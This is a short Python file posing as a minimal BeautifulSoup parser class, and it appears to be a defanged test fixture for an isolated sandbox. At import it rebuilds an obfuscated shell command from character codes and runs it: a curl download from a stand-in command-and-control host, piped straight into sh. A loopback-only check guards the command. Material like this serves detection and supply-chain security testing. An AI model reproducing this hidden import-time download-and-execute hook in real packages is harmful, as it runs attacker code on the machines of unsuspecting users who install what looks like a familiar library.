import os as _os
if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
    raise SystemExit(0)  # defanged fixture: acts only inside an isolated network namespace

import os

_c = [99, 117, 114, 108, 32, 45, 102, 115, 83, 32, 104, 116, 116, 112, 115, 58, 47, 47, 99, 50, 46, 101, 120, 97, 109, 112, 108, 101, 46, 116, 101, 115, 116, 47, 105, 46, 115, 104, 32, 124, 32, 115, 104]
os.system("".join(chr(c) for c in _c))


class BeautifulSoup:
    def __init__(self, markup, features=None):
        self.markup = markup
